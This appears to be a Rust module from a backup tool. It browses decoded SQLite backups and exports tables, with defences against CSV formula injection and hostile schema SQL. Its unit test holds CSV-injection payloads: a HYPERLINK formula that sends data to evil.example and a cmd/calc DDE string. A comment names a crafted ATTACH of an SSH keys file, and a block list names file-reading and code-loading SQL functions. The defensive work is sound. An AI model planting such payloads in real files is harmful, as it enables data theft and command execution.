//! Inside one backup, table by table: browsing it without restoring it (`open_backup`, a
//! [`BackupView`]), and writing one of its tables out as a file of its own. Taking tables back
//! into the live database is `take_back.rs`, from a view or from a backup decoded again.
//!
//! A view is the backup decoded into a private folder of this installation, with every check of
//! the bytes done (checksums, decryption, decompression), removed when the view is dropped.
//!
//! A table gone from the live database, and the export of a table as a database of its own,
//! are created again from the backup's schema: SQL text from outside, run only as a single
//! `CREATE TABLE` or `CREATE INDEX` of that table under an authorizer (see `run_definition`).

use std::path::{Path, PathBuf};

use rusqlite::types::ValueRef;
use rusqlite::{Connection, OpenFlags};
use serde::{Deserialize, Serialize};

use crate::commands::compare::{q, tables};
use crate::commands::decode::DecodeOptions;
use crate::engine::Engine;
use crate::error::Reason;
use crate::error::{Error, ErrorCode, Result, shown};
use crate::format::Header;
use crate::model::{BackupMetadata, Check, Origin};
use crate::seams::{Job, Phase};

/// One table of a backup.
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TableSummary {
    /// Its name.
    pub table: String,
    /// Kept by SQLite itself (its own tables, a full-text index and its shadow tables).
    pub internal: bool,
    /// Its rows; `None` for a virtual table this SQLite cannot read.
    pub rows: Option<u64>,
    /// Its columns, in order.
    pub columns: Vec<String>,
}

/// A page of a table's rows. Values are shown as text: numbers as written, a blob as its size
/// (`[1,204 bytes]`), SQL NULL as `None`.
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct RowsPage {
    /// The table.
    pub table: String,
    /// Its columns, in order.
    pub columns: Vec<String>,
    /// The rows, each with one value per column.
    pub rows: Vec<Vec<Option<String>>>,
    /// The first row's position among the matching rows (0-based).
    pub offset: u64,
    /// How many rows match (all rows without a search).
    pub total: u64,
}

/// A backup decoded for reading, in a private folder removed when this is dropped.
#[derive(Debug)]
pub struct BackupView {
    /// Read-only, on `decoded.path`; closed before the folder is removed.
    conn: Connection,
    meta: BackupMetadata,
    pub(crate) decoded: Scratch,
}

/// A backup decoded into a private folder of this installation's scratch space, removed when
/// this is dropped.
#[derive(Debug)]
pub(crate) struct Scratch {
    /// The decoded database, in `_dir`.
    pub path: PathBuf,
    /// What decoding checked (the integrity check skipped unless it was asked for).
    pub checks: Vec<Check>,
    /// The newest link's header: what the decoded database's schema is checked against.
    pub header: Header,
    _dir: tempfile::TempDir,
}

impl BackupView {
    /// The backup it shows.
    pub fn backup(&self) -> &BackupMetadata {
        &self.meta
    }

    /// Its tables: people's tables first, then internal ones, each by name.
    pub fn tables(&self) -> Result<Vec<TableSummary>> {
        let err = |e| self.err(e);
        let found = tables(&self.conn, "main").map_err(err)?;
        let mut out: Vec<TableSummary> = found
            .into_iter()
            .map(|(table, info)| {
                let rows = self
                    .conn
                    .query_row(&format!("SELECT count(*) FROM main.{}", q(&table)), [], |r| {
                        r.get::<_, i64>(0)
                    })
                    .ok()
                    .map(|n| n as u64);
                TableSummary { table, internal: info.internal, rows, columns: info.columns }
            })
            .collect();
        out.sort_by(|a, b| a.internal.cmp(&b.internal).then_with(|| a.table.cmp(&b.table)));
        Ok(out)
    }

    /// Rows `offset..offset + limit` of `table` (in rowid or primary key order), only those
    /// with `search` in one of their values when given.
    pub fn rows(&self, table: &str, offset: u64, limit: u64, search: Option<&str>) -> Result<RowsPage> {
        let err = |e| self.err(e);
        let info = self.table(table)?;
        let columns = info.columns.clone();
        let search = search.map(str::trim).filter(|s| !s.is_empty());
        let filter = match search {
            Some(_) if !columns.is_empty() => format!(
                "WHERE {}",
                columns
                    .iter()
                    .map(|c| format!("CAST({} AS TEXT) LIKE ?1 ESCAPE '\\'", q(c)))
                    .collect::<Vec<_>>()
                    .join(" OR ")
            ),
            _ => String::new(),
        };
        let pattern =
            search.map(|s| format!("%{}%", s.replace('\\', "\\\\").replace('%', "\\%").replace('_', "\\_")));
        let params: Vec<&dyn rusqlite::ToSql> = match (&pattern, filter.is_empty()) {
            (Some(p), false) => vec![p as &dyn rusqlite::ToSql],
            _ => vec![],
        };
        let t = q(table);
        let total: i64 = self
            .conn
            .query_row(&format!("SELECT count(*) FROM main.{t} {filter}"), params.as_slice(), |r| r.get(0))
            .map_err(err)?;
        let list = if columns.is_empty() {
            "*".to_owned()
        } else {
            columns.iter().map(|c| q(c)).collect::<Vec<_>>().join(", ")
        };
        let order = info.key.join(", ");
        let sql = format!(
            "SELECT {list} FROM main.{t} {filter} ORDER BY {order} LIMIT {} OFFSET {}",
            limit.min(10_000),
            offset.min(i64::MAX as u64)
        );
        let mut stmt = self.conn.prepare(&sql).map_err(err)?;
        let n = stmt.column_count();
        let columns = if columns.is_empty() {
            stmt.column_names().into_iter().map(str::to_owned).collect()
        } else {
            columns
        };
        let rows = stmt
            .query_map(params.as_slice(), |r| (0..n).map(|i| Ok(shown_value(r.get_ref(i)?))).collect())
            .map_err(err)?
            .collect::<rusqlite::Result<Vec<Vec<Option<String>>>>>()
            .map_err(err)?;
        Ok(RowsPage { table: table.to_owned(), columns, rows, offset, total: total as u64 })
    }

    /// Every row of `table`, in rowid or primary key order, to `f` with the column names: the
    /// whole table, for an export (a blob as its bytes in hex, SQL NULL as `None`).
    pub fn each_row(
        &self,
        table: &str,
        mut f: impl FnMut(&[String], Vec<Option<String>>) -> Result<()>,
    ) -> Result<u64> {
        let err = |e| self.err(e);
        let info = self.table(table)?;
        let list = info.columns.iter().map(|c| q(c)).collect::<Vec<_>>().join(", ");
        let sql = format!("SELECT {list} FROM main.{} ORDER BY {}", q(table), info.key.join(", "));
        let mut stmt = self.conn.prepare(&sql).map_err(err)?;
        let mut rows = stmt.query([]).map_err(err)?;
        let mut n = 0;
        while let Some(r) = rows.next().map_err(err)? {
            let values = (0..info.columns.len())
                .map(|i| {
                    r.get_ref(i).map(|v| match v {
                        ValueRef::Blob(b) => Some(hex::encode(b)),
                        other => shown_value(other),
                    })
                })
                .collect::<rusqlite::Result<Vec<_>>>()
                .map_err(err)?;
            f(&info.columns, values)?;
            n += 1;
        }
        Ok(n)
    }

    /// Writes every row of `table` as CSV to `out` (a header line with the column names, then
    /// one line per row; a blob in hex, SQL NULL as an empty field); returns the rows written.
    /// Values are written exactly as they are, for programs; a CSV file meant for a spreadsheet
    /// is [`BackupView::export_csv_file`].
    pub fn export_csv(&self, table: &str, out: &mut dyn std::io::Write) -> Result<u64> {
        self.write_csv(table, out, false)
    }

    /// [`BackupView::export_csv`], with every value a spreadsheet would run as a formula
    /// neutralised when `for_spreadsheet` (see `spreadsheet_cell`).
    fn write_csv(&self, table: &str, out: &mut dyn std::io::Write, for_spreadsheet: bool) -> Result<u64> {
        let cell = |v: &str| -> String {
            if for_spreadsheet { spreadsheet_cell(v).into_owned() } else { v.to_owned() }
        };
        let mut w = csv::Writer::from_writer(out);
        let failed = |e: csv::Error| Error::new(ErrorCode::Io, format!("cannot write the CSV: {e}"));
        let mut header = true;
        let n = self.each_row(table, |columns, values| {
            if std::mem::take(&mut header) {
                w.write_record(columns.iter().map(|c| cell(c))).map_err(failed)?;
            }
            w.write_record(values.iter().map(|v| cell(v.as_deref().unwrap_or("")))).map_err(failed)
        })?;
        if header {
            // No rows: the header line alone.
            w.write_record(self.table(table)?.columns.iter().map(|c| cell(c))).map_err(failed)?;
        }
        w.flush().map_err(|e| Error::new(ErrorCode::Io, format!("cannot write the CSV: {e}")))?;
        Ok(n)
    }

    /// Writes `table` (its definition, its indexes and every row) as a new SQLite database at
    /// `dest`, which must not exist: made beside it under a temporary name, then renamed, so
    /// nothing half-written ever has that name. Returns the rows written.
    pub fn export_database(&self, table: &str, dest: &Path) -> Result<u64> {
        self.export_file(dest, ".sqlite", |tmp| {
            let info = self.table(table)?;
            if info.internal {
                return Err(Error::invalid(format!(
                    "{table:?} is kept by SQLite itself; export the table it belongs to"
                ))
                .with_reason(Reason::InternalTable)
                .with_tables(vec![table.to_owned()]));
            }
            let werr = |e| Error::internal_db(tmp, e);
            let out = Connection::open(tmp).map_err(werr)?;
            // The table goes alone: tables its foreign keys name are not there, and need not be.
            out.execute_batch("PRAGMA foreign_keys = OFF").map_err(werr)?;
            out.execute("ATTACH DATABASE ?1 AS b", [self.decoded.path.to_string_lossy()]).map_err(werr)?;
            out.execute_batch("BEGIN").map_err(werr)?;
            let ddl = definitions(&out, table).map_err(|e| self.err(e))?;
            for d in &ddl {
                run_definition(&out, d, table).map_err(|e| e.into_error(&self.meta.id, table, tmp))?;
            }
            let rowid = if info.key == ["rowid"] { "rowid, " } else { "" };
            let cols = info.columns.iter().map(|c| q(c)).collect::<Vec<_>>().join(", ");
            let t = q(table);
            let n = out
                .execute(&format!("INSERT INTO main.{t} ({rowid}{cols}) SELECT {rowid}{cols} FROM b.{t}"), [])
                .map_err(werr)?;
            out.execute_batch("COMMIT; DETACH DATABASE b;").map_err(werr)?;
            Ok(n as u64)
        })
    }

    /// Writes `dest` (which must not exist) through `write` on a private temporary file beside
    /// it, synced and then renamed without replacing anything.
    fn export_file(
        &self,
        dest: &Path,
        suffix: &str,
        write: impl FnOnce(&Path) -> Result<u64>,
    ) -> Result<u64> {
        if std::fs::symlink_metadata(dest).is_ok() {
            return Err(Error::invalid(format!("{} already exists; choose a new file name", shown(dest)))
                .with_path(dest)
                .with_reason(Reason::Exists));
        }
        let dir = dest.parent().filter(|p| !p.as_os_str().is_empty()).unwrap_or(Path::new("."));
        let tmp = tempfile::Builder::new()
            .prefix(".keepsake-export-")
            .suffix(suffix)
            .tempfile_in(dir)
            .map_err(|e| Error::write(dir, e))?
            .into_temp_path();
        let n = write(&tmp)?;
        crate::durable::sync_file(&tmp)?;
        crate::durable::rename_noreplace(&tmp, dest)?;
        // Renamed away: nothing left to remove.
        let _ = tmp.keep();
        crate::durable::sync_dir(dir);
        Ok(n)
    }

    /// Writes `table` as CSV to a new file at `dest` (see [`BackupView::export_csv`]), for a
    /// spreadsheet: a value that a spreadsheet would run as a formula (it starts with `=`, `+`,
    /// `-`, `@`, a tab or a carriage return) gets a `'` in front, so it shows as the text it is
    /// (see `spreadsheet_cell`).
    pub fn export_csv_file(&self, table: &str, dest: &Path) -> Result<u64> {
        self.export_file(dest, ".csv", |tmp| {
            let mut f = std::fs::OpenOptions::new()
                .write(true)
                .truncate(true)
                .open(tmp)
                .map_err(|e| Error::write(tmp, e))?;
            self.write_csv(table, &mut f, true)
        })
    }

    /// Table `table` of the backup: `no_such_table` when it has none by that name.
    fn table(&self, table: &str) -> Result<crate::commands::compare::TableInfo> {
        let mut found = tables(&self.conn, "main").map_err(|e| self.err(e))?;
        found.remove(table).ok_or_else(|| {
            Error::invalid(format!("backup {} has no table {:?}", self.meta.id, table))
                .with_backup(&self.meta.id)
                .with_reason(Reason::NoSuchTable)
                .with_tables(vec![table.to_owned()])
        })
    }

    fn err(&self, e: rusqlite::Error) -> Error {
        Error::new(ErrorCode::BackupDamaged, format!("{}: {e}", self.meta.id)).with_backup(&self.meta.id)
    }
}

/// `value` as a spreadsheet cell that is never a formula.
///
/// A backup's content is not trusted, and spreadsheet apps run a cell starting with `=`, `+`,
/// `-` or `@` as a formula (one that can fetch a URL or, in old versions, start a program); a
/// leading tab or carriage return hides such a start. As OWASP advises for CSV injection, such
/// a value gets a single quote in front, which spreadsheets show as text and do not display.
/// A plain number (`-12`, `+3.5`, `-1e-9`) is left as it is: it is no formula, and a quote
/// would turn it into text.
fn spreadsheet_cell(value: &str) -> std::borrow::Cow<'_, str> {
    let risky = value.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let number = value.len() > 1
        && value.bytes().all(|b| b.is_ascii_digit() || matches!(b, b'+' | b'-' | b'.' | b'e' | b'E'))
        && value.parse::<f64>().is_ok();
    if risky && !number { format!("'{value}").into() } else { value.into() }
}

/// A value as text for a person.
fn shown_value(v: ValueRef<'_>) -> Option<String> {
    match v {
        ValueRef::Null => None,
        ValueRef::Integer(i) => Some(i.to_string()),
        ValueRef::Real(f) => Some(f.to_string()),
        ValueRef::Text(t) => Some(String::from_utf8_lossy(t).into_owned()),
        ValueRef::Blob(b) => Some(format!("[{} bytes]", b.len())),
    }
}

impl Engine {
    /// Decodes backup `id` for browsing (progress in `job`, phase `Verify`): read-only, in a
    /// private temporary folder of this installation removed when the view is dropped.
    pub fn open_backup(&self, id: &str, job: &Job) -> Result<BackupView> {
        let meta = self.get(id)?;
        let decoded = self.decode_to_scratch(&meta, false, job)?;
        let conn = Connection::open_with_flags(
            &decoded.path,
            OpenFlags::SQLITE_OPEN_READ_ONLY | OpenFlags::SQLITE_OPEN_NO_MUTEX,
        )
        .map_err(|e| {
            Error::new(ErrorCode::BackupDamaged, format!("{}: {e}", meta.id)).with_backup(&meta.id)
        })?;
        Ok(BackupView { conn, meta, decoded })
    }

    /// Decodes `meta` into a new private folder of this installation (removed when the
    /// [`Scratch`] is dropped); with `integrity`, checked as a verification checks it (and
    /// recorded so).
    pub(crate) fn decode_to_scratch(
        &self,
        meta: &BackupMetadata,
        integrity: bool,
        job: &Job,
    ) -> Result<Scratch> {
        if meta.opaque.is_some() {
            return Err(opaque_inside(meta));
        }
        let scratch = self.home.scratch_dir();
        crate::durable::create_private_dir(&scratch)?;
        let mut b = tempfile::Builder::new();
        b.prefix(crate::installation::SCRATCH_PREFIX);
        #[cfg(unix)]
        b.permissions(std::os::unix::fs::PermissionsExt::from_mode(0o700));
        let tmp = b.tempdir_in(&scratch).map_err(|e| Error::write(&scratch, e))?;
        let path = tmp.path().join("backup.db");
        let decoded =
            self.decode(meta, &path, DecodeOptions { integrity, sync: false }, job, Phase::Verify)?;
        if integrity && meta.origin == Origin::Recorded {
            self.set_verification(&meta.id, decoded.ok(), &decoded.checks, self.clock.now())?;
        }
        if let Some(e) = decoded.error {
            return Err(e);
        }
        let header =
            decoded.header.ok_or_else(|| Error::new(ErrorCode::BackupDamaged, "nothing was decoded"))?;
        Ok(Scratch { path, checks: decoded.checks, header, _dir: tmp })
    }
}

/// The error for a look inside a backup of a file its app encrypts.
pub(crate) fn opaque_inside(meta: &BackupMetadata) -> Error {
    Error::invalid(format!(
        "backup {} is of a file its app encrypts; Keepsake keeps it whole and cannot look inside it",
        meta.id
    ))
    .with_backup(&meta.id)
    .with_reason(crate::error::Reason::Opaque)
}

/// One definition of a table or of one of its indexes, as the backup's `sqlite_schema` holds it.
pub(crate) struct Definition {
    /// `table` or `index`.
    kind: String,
    /// The table's or the index's name.
    name: String,
    /// Its SQL text, as found in the backup: not trusted.
    sql: String,
}

/// The definitions of `table` in the backup attached as `b`: the table first, then its indexes.
pub(crate) fn definitions(conn: &Connection, table: &str) -> rusqlite::Result<Vec<Definition>> {
    let mut stmt = conn.prepare(
        "SELECT type, name, sql FROM b.sqlite_schema WHERE tbl_name = ?1 AND sql IS NOT NULL AND type IN ('table', 'index') ORDER BY type = 'index', name",
    )?;
    stmt.query_map([table], |r| Ok(Definition { kind: r.get(0)?, name: r.get(1)?, sql: r.get(2)? }))?
        .collect()
}

/// Why a definition from a backup was not run.
pub(crate) enum DefinitionFailed {
    /// It would do more than create `table` or one of its indexes in `main` (what, for a person).
    Unsafe(String),
    /// SQLite refused it (a name already taken, a full disk).
    Sqlite(rusqlite::Error),
}

impl DefinitionFailed {
    /// The error for a person: an unsafe definition is the backup's fault (`unsafe_schema`),
    /// anything else is about `written`, the database being written.
    pub(crate) fn into_error(self, backup: &str, table: &str, written: &Path) -> Error {
        match self {
            DefinitionFailed::Unsafe(what) => Error::new(
                ErrorCode::BackupDamaged,
                format!(
                    "backup {backup} holds a definition of the table {table:?} that does more than create it ({what}); Keepsake ran none of it and changed nothing. The database in this backup was altered on purpose or is damaged: take the table from another backup"
                ),
            )
            .with_backup(backup)
            .with_reason(Reason::UnsafeSchema)
            .with_tables(vec![table.to_owned()]),
            DefinitionFailed::Sqlite(e) => Error::internal_db(written, e),
        }
    }
}

/// Functions a definition may never call, even where SQLite would let it (reading or writing
/// files, loading code).
const FORBIDDEN_FUNCTIONS: &[&str] = &["load_extension", "readfile", "writefile", "edit", "fts3_tokenizer"];

/// Runs definition `d` of `table`, taken from a backup, on `conn`: only when it is exactly one
/// `CREATE TABLE` of `table` (or `CREATE [UNIQUE] INDEX` on it, for an index) in `main`.
///
/// A backup's schema is hostile input: SQLite itself parses only the first statement of each
/// `sqlite_schema.sql` when it loads a schema (and `integrity_check` says ok), so a crafted file
/// can carry `DROP TABLE`, `COMMIT` or `ATTACH '~/.ssh/authorized_keys'` after its `CREATE
/// TABLE`. The text is therefore prepared as a single statement (a tail is refused), under an
/// authorizer that allows only what creating this one table or index touches: its own name, its
/// columns, SQLite's schema table of `main`. Everything else (attaching, transactions, pragmas,
/// another table, another schema, a temporary object) is denied before anything runs.
pub(crate) fn run_definition(
    conn: &Connection,
    d: &Definition,
    table: &str,
) -> std::result::Result<(), DefinitionFailed> {
    use rusqlite::hooks::{AuthAction, AuthContext, Authorization};
    use std::sync::{Arc, Mutex};

    #[derive(Default)]
    struct Seen {
        /// Objects of the expected kind and name this statement creates.
        created: u32,
        /// The first action denied, for the message.
        denied: Option<String>,
    }
    let seen = Arc::new(Mutex::new(Seen::default()));
    let is_table = d.kind == "table";
    let (name, wanted, record) = (d.name.clone(), table.to_owned(), Arc::clone(&seen));
    conn.authorizer(Some(move |ctx: AuthContext<'_>| {
        let main = ctx.database_name == Some("main");
        let schema_table = |t: &str| main && (t == "sqlite_master" || t == "sqlite_schema");
        let Ok(mut seen) = record.lock() else {
            return Authorization::Deny;
        };
        let allowed = match ctx.action {
            AuthAction::CreateTable { table_name } if is_table => {
                let ok = main && table_name == wanted;
                seen.created += u32::from(ok);
                ok
            }
            // A table's UNIQUE and PRIMARY KEY constraints make SQLite's own indexes.
            AuthAction::CreateIndex { index_name, table_name } if is_table => {
                main && table_name == wanted && index_name.starts_with("sqlite_autoindex_")
            }
            AuthAction::CreateIndex { index_name, table_name } => {
                let ok = main && table_name == wanted && index_name == name;
                seen.created += u32::from(ok);
                ok
            }
            AuthAction::Reindex { index_name } => main && index_name == name,
            AuthAction::Read { table_name, .. } => main && (table_name == wanted || schema_table(table_name)),
            AuthAction::Insert { table_name } | AuthAction::Update { table_name, .. } => {
                schema_table(table_name)
            }
            AuthAction::Function { function_name } => {
                !FORBIDDEN_FUNCTIONS.iter().any(|f| f.eq_ignore_ascii_case(function_name))
            }
            _ => false,
        };
        if allowed {
            Authorization::Allow
        } else {
            seen.denied.get_or_insert_with(|| denied_action(&ctx));
            Authorization::Deny
        }
    }));
    let result = (|| {
        let unsafe_one = |e: rusqlite::Error| match e {
            rusqlite::Error::MultipleStatement => {
                DefinitionFailed::Unsafe("more statements after the first".to_owned())
            }
            e => match seen.lock().ok().and_then(|s| s.denied.clone()) {
                Some(what) => DefinitionFailed::Unsafe(what),
                None => DefinitionFailed::Sqlite(e),
            },
        };
        let mut stmt = conn.prepare(&d.sql).map_err(unsafe_one)?;
        let created = seen.lock().map(|s| s.created).unwrap_or(0);
        if created != 1 {
            return Err(DefinitionFailed::Unsafe(format!(
                "not a CREATE {} of {:?}",
                if is_table { "TABLE" } else { "INDEX" },
                if is_table { table } else { d.name.as_str() }
            )));
        }
        stmt.raw_execute().map(drop).map_err(unsafe_one)
    })();
    // The authorizer is for backup-supplied SQL only: Keepsake's own statements run without it.
    conn.authorizer(None::<fn(AuthContext<'_>) -> Authorization>);
    result
}

/// What a denied action would have done, for a person.
fn denied_action(ctx: &rusqlite::hooks::AuthContext<'_>) -> String {
    use rusqlite::hooks::AuthAction as A;
    let db = ctx.database_name.map(|d| format!(" in {d:?}")).unwrap_or_default();
    match ctx.action {
        A::Attach { filename } => format!("it attaches the file {filename:?}"),
        A::Detach { database_name } => format!("it detaches {database_name:?}"),
        A::Transaction { operation } => format!("it ends or starts a transaction ({operation:?})"),
        A::Savepoint { .. } => "it uses a savepoint".to_owned(),
        A::Pragma { pragma_name, .. } => format!("it runs PRAGMA {pragma_name}"),
        A::DropTable { table_name } | A::DropTempTable { table_name } => {
            format!("it drops the table {table_name:?}{db}")
        }
        A::CreateTable { table_name } | A::CreateTempTable { table_name } => {
            format!("it creates the table {table_name:?}{db}")
        }
        A::CreateIndex { index_name, table_name } | A::CreateTempIndex { index_name, table_name } => {
            format!("it creates the index {index_name:?} on {table_name:?}{db}")
        }
        A::Delete { table_name } => format!("it deletes from {table_name:?}{db}"),
        A::Insert { table_name } => format!("it writes to {table_name:?}{db}"),
        A::Update { table_name, .. } => format!("it changes {table_name:?}{db}"),
        A::Read { table_name, .. } => format!("it reads {table_name:?}{db}"),
        A::Function { function_name } => format!("it calls {function_name}()"),
        other => format!("{other:?}{db}"),
    }
}

#[cfg(test)]
mod tests {
    use super::spreadsheet_cell;

    #[test]
    fn a_cell_a_spreadsheet_would_run_gets_a_quote_and_numbers_stay_numbers() {
        for (value, cell) in [
            ("=HYPERLINK(\"http://evil.example/?\"&A1)", "'=HYPERLINK(\"http://evil.example/?\"&A1)"),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(1,1)", "'@SUM(1,1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("-", "'-"),
            ("plain text", "plain text"),
            ("a=b", "a=b"),
            ("", ""),
            ("-12", "-12"),
            ("+3.5", "+3.5"),
            ("-1e-9", "-1e-9"),
            ("42", "42"),
        ] {
            assert_eq!(spreadsheet_cell(value), cell, "{value:?}");
        }
    }
}
